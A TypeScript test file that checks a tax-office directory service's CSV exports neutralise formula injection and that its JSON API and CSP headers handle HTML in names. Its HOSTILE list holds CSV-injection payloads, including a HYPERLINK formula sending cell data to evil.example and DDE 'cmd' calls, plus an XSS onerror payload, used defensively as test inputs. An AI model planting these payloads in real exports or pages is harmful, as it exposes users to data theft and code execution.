// Hostile directory names (formulas, HTML) in the stats and directory CSV: every text cell is formula-safe.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { login, user } from '../server/auth-support.ts';
import { batch, harness, newKey, post, seedDirectory, token, type Harness } from '../server/support.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1;"clic")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '"; =1+1; "',
];
const BALFS = HOSTILE.map((_, i) => `sip.h${i}@dgfip.finances.gouv.fr`);

/** A cell a spreadsheet would evaluate: starts with = + - @ (tab/CR too), unless it is a plain number. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(,\d+)?$/.test(cell);

function cells(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv.slice(1), { delimiter: ';', relax_column_count: true }) as string[][];
}

describe('CSV output with hostile directory names', () => {
  let h: Harness;
  let read: string;
  let cookie: string;
  beforeAll(async () => {
    h = await harness('sqlite', { now: '2025-06-30T10:00:00Z' });
    await seedDirectory(
      h.db,
      HOSTILE.map((_, i) => ({
        department: `${10 + i}`,
        region: 'metropole',
        service: `SIP-H${i}`,
        balfs: [BALFS[i]!],
      })),
    );
    for (const [i, name] of HOSTILE.entries()) {
      await h.db
        .updateTable('departments')
        .set({ name })
        .where('code', '=', `${10 + i}`)
        .execute();
      await h.db.updateTable('services').set({ name }).where('code', '=', `SIP-H${i}`).execute();
    }
    const write = await token(h.db, { level: 'national' });
    for (const balf of BALFS) {
      const res = await post(
        h.app,
        write,
        batch(balf, [{ k: newKey(), dir: 'in', at: '2025-06-02T08:00:00Z', cat: 'usager' }]),
      );
      expect(res.statusCode, res.body).toBe(200);
    }
    read = await token(h.db, { level: 'national' }, false);
    await user(h.db, 'admin', { level: 'national' });
    cookie = (await login(h.app, 'admin')).cookie;
  });
  afterAll(async () => h?.close());

  const get = (url: string, headers: Record<string, string>) => h.app.inject({ method: 'GET', url, headers });

  it('stats CSV (national → departments, department → services) neutralises every formula cell', async () => {
    const urls = [
      '/api/v1/stats?level=national&from=2025-06-01&to=2025-06-30&format=csv',
      ...HOSTILE.map(
        (_, i) => `/api/v1/stats?level=department&id=${10 + i}&from=2025-06-01&to=2025-06-30&format=csv`,
      ),
    ];
    let names = 0;
    for (const url of urls) {
      const res = await get(url, { authorization: `Bearer ${read}` });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const rows = cells(res.body);
      for (const row of rows) for (const cell of row) expect(dangerous(cell), `${url}: ${cell}`).toBe(false);
      // The names are still there, readable, behind a quote.
      for (const name of HOSTILE)
        if (rows.some((row) => row.some((c) => c === name || c === `'${name}`))) names++;
    }
    expect(names).toBeGreaterThanOrEqual(HOSTILE.length);
  });

  it('directory export neutralises the same names, and the JSON API returns them as data', async () => {
    const res = await get('/api/v1/directory/export', { cookie });
    expect(res.statusCode, res.body).toBe(200);
    const rows = cells(res.body);
    for (const row of rows) for (const cell of row) expect(dangerous(cell), cell).toBe(false);
    const path = await get(`/api/v1/directory/path?level=service&id=SIP-H5`, { cookie });
    expect(path.headers['content-type']).toMatch(/^application\/json/);
    expect(path.json<{ name: string }[]>().map((c) => c.name)).toContain(HOSTILE[5]);
    // Every answer carries the strict CSP (no inline script can run even if a name were injected).
    expect(path.headers['content-security-policy']).toMatch(/script-src 'self'(;|$)/);
    expect(path.headers['x-content-type-options']).toBe('nosniff');
  });
});
